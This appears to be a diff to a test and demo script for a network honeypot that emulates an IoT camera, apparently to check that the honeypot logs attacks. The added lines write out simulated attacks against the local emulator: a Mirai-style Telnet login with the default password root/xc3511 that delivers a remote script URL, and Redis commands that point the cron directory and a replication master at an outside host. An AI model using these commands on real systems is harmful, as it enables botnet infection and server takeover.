@@ -18,7 +18,7 @@ fi
 
 # --- tools
 need=()
-for pair in ip:iproute2 ping:iputils-ping arping:arping nc:netcat-openbsd nmap:nmap curl:curl dig:dnsutils ssh:openssh-client sshpass:sshpass; do
+for pair in ip:iproute2 ping:iputils-ping arping:arping nc:netcat-openbsd nmap:nmap curl:curl dig:dnsutils ssh:openssh-client sshpass:sshpass python3:python3 redis-cli:redis-tools p0f:p0f; do
 	command -v "${pair%%:*}" >/dev/null 2>&1 || need+=("${pair#*:}")
 done
 if [ "${#need[@]}" -gt 0 ]; then
@@ -43,8 +43,10 @@ id=$$
 C=mcdemo-c-$id R=mcdemo-r-$id
 CIF=vdc$id RIF=vdr$id
 C4=198.51.100.1 R4=198.51.100.2 C6=2001:db8:100::1 R6=2001:db8:100::2
-# a second address with a host profile: a Debian web server
+# a second address with a host profile: a Debian web server; a third: an
+# IoT camera whose Telnet lets bots in (to the recording shell)
 P4=198.51.100.3
+P5=198.51.100.4
 MAC=52:1c:4e:c2:a4:1f
 work=$(mktemp -d)
 log=$work/masscanned.log
@@ -90,11 +92,22 @@ udp = []
 [host.banners]
 ssh = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3"
 http_server = "nginx/1.22.1"
+
+# $P5 is a BusyBox camera: Telnet (logins accepted: --telnet-accept-after 1),
+# HTTP and an exposed Redis.
+[[host]]
+name = "cam"
+addresses = ["$P5"]
+tcp = [23, 80, 6379]
+udp = []
+[host.banners]
+telnet = "BusyBox v1.31.1"
+hostname = "ipcam"
 PROFILE
 echo "demo: $R4 and $R6 answer everything (upstream mode); $P4 has a host profile:"
 sed 's/^/    /' "$work/profile.toml"
-ip netns exec "$R" "$bin" -i "$RIF" -m "$MAC" --self-ip-list "$R4,$R6,$P4" --format console \
-	--profile "$work/profile.toml" --idle-timeout 5s \
+ip netns exec "$R" "$bin" -i "$RIF" -m "$MAC" --self-ip-list "$R4,$R6,$P4,$P5" --format console \
+	--profile "$work/profile.toml" --idle-timeout 5s --telnet-accept-after 1 --p0f-db /etc/p0f/p0f.fp \
 	>"$log" 2>"$work/stderr" </dev/null &
 pid=$!
 sleep 1
@@ -146,6 +159,10 @@ udp_out=$last
 try "ssh root@$P4 (password refused)" sh -c "sshpass -p 'hunter2' ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 root@$P4 true 2>&1 | grep -q 'Permission denied'"
 try "curl -k https://$P4/" curl -k -s -o /dev/null -w '%{http_code}' --max-time 5 "https://$P4/"
 https_code=$last
+echo "demo: the camera $P5: a Mirai-style bot logs in over Telnet, redis-cli pokes Redis"
+try "mirai-style telnet $P5" python3 e2e/scripts/mirai_telnet.py "$P5" 23 root xc3511 http://203.0.113.66/mirai.sh
+try "redis-cli -h $P5 CONFIG SET dir" redis-cli -h "$P5" CONFIG SET dir /var/spool/cron
+try "redis-cli -h $P5 SLAVEOF" redis-cli -h "$P5" SLAVEOF 203.0.113.9 6379
 sleep 0.5
 
 kill -INT "$pid" 2>/dev/null || true
@@ -170,6 +187,9 @@ echo "  greeting on $P4:22: ${greeting:-<none>}"
 echo "  UDP 161 on $P4: $(printf '%s\n' "$udp_out" | grep '161/udp' || echo '?')"
 echo "  ssh login recorded: $(grep -o 'user=root.*password=hunter2' "$log" | head -1 | cut -c1-60)"
 echo "  https on $P4: $https_code, ClientHello $(grep -o 'ja4=[^[:space:]]*' "$log" | head -1)"
+echo "  telnet on $P5: $(grep -o 'auth="telnet user=root password=xc3511 success"' "$log" | head -1), commands: $(grep -c 'command=' "$log"), URL: $(grep -o 'urls=[^[:space:]]*mirai.sh' "$log" | head -1)"
+echo "  redis on $P5: $(grep -o 'command="CONFIG SET dir [^"]*"' "$log" | head -1) $(grep -o 'master=[^[:space:]]*' "$log" | head -1)"
+echo "  a SYN's p0f fingerprint: $(grep -o 'tcp_fp=[^[:space:]]*[[:space:]]os="[^"]*"' "$log" | head -1 | tr '\t' ' ')"
 echo "  connection-end events: $(grep -c 'conn-end' "$log")"
 echo "  masscanned logged $(grep -c . "$log") events"
 if [ -s "$work/stderr" ]; then
